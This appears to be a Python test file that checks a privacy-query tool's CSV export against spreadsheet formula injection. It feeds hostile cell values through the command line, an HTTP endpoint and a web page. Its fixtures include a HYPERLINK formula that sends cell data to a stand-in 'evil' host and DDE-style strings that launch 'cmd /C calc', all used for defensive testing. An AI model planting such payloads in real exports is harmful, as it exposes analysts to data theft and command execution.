"""Attack: whoever writes a row writes a formula, it is found as a group, and an analyst opens the CSV in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from adyton.certify.csv_text import csv_text
from adyton.transports.cli.app import app
from support.servers import QUICK, served
from support.web import Browsing
from support.worlds import study_text

FORMULAS = (
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
)
HARMLESS = ("-1", "+2.50", "north", "a=b", "it's", "'quoted'", "")
EXECUTED = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
ESCAPED = re.compile(r"'+[=+\-@\t\r\n＝＋－＠]")
COLUMNS = {"employer": {"kind": "text"}, "sign": {"kind": "category", "values": ["=1+1", "-"]}}
ASKED = 'SELECT employer, COUNT(*) AS "=n" FROM people GROUP BY employer'


@pytest.fixture
def study(tmp_path: Path) -> Path:
    employers = [one for one in FORMULAS for _ in range(300)]
    pd.DataFrame({"employer": employers, "sign": "=1+1"}).to_parquet(tmp_path / "people.parquet")
    file = tmp_path / "people.toml"
    text = study_text(COLUMNS, rows=len(employers), epsilon=10, delta="1e-6", discovery_delta=1e-7)
    file.write_text(text, encoding="utf-8")
    return file


def read_back(text: str) -> list[list[str]]:
    """As docs/reference/json.md says."""
    rows = csv.reader(io.StringIO(text, newline=""))
    return [[cell[1:] if ESCAPED.match(cell) else cell for cell in row] for row in rows]


def check(text: str) -> None:
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not any(EXECUTED.match(cell) for cell in row), row
    (names, *rows) = read_back(text)
    assert names[:2] == ["employer", "=n"]
    assert {row[0] for row in rows} == set(FORMULAS)


def test_no_formula_found_as_a_group_is_executed_wherever_csv_is_written(study: Path) -> None:
    """The command line, HTTP and a page.  Mutant: texts are written as they are."""
    printed = CliRunner().invoke(app, ["ask", str(study), ASKED, "--epsilon", "1", "--csv"])
    check(printed.stdout)
    listed = CliRunner().invoke(
        app, ["ask", str(study), "SELECT sign, COUNT(*) FROM people GROUP BY sign", "--epsilon", "1", "--csv"]
    )
    assert "\n'=1+1," in listed.stdout
    with served([study], QUICK) as house:
        token = house.made("ana")
        body = {"query": ASKED, "epsilon": "1"}
        sent = house.client.post("/v1/studies/people/ask", json=body, headers={**token, "Accept": "text/csv"})
        check(sent.text)
        person = Browsing(house)
        person.log_in(token)
        asked = person.asked(ASKED, epsilon="1")
        check(person.get(str(asked.url).replace("/answer?", "/answer.csv?")).text)


TEXTS = st.text(st.characters(codec="utf-8") | st.sampled_from("=+-@\t\r\n',\"")) | st.sampled_from(
    FORMULAS + HARMLESS
)
NUMBERS = st.integers() | st.floats(allow_nan=False)


@given(st.lists(TEXTS, min_size=1, max_size=4, unique=True), st.data())
def test_law_what_is_written_is_read_back_and_never_a_formula(names: list[str], data: Any) -> None:
    """Numbers stay numbers, and texts that are plain numbers are let be.  Mutant: a bare carriage return ends a line."""
    rows = data.draw(
        st.lists(st.lists(TEXTS | NUMBERS | st.none(), min_size=len(names), max_size=len(names)), max_size=3)
    )
    text = csv_text(names, [dict(zip(names, row, strict=True)) for row in rows])
    kept = [["" if value is None else str(value) for value in row] for row in (names, *rows)]
    assert read_back(text) == kept
    for written, row in zip(csv.reader(io.StringIO(text, newline="")), (names, *rows), strict=True):
        for shown, value in zip(written, row, strict=True):
            number = not isinstance(value, str) or re.fullmatch(r"[+-][0-9]+(\.[0-9]+)?", value)
            assert number or not EXECUTED.match(shown)
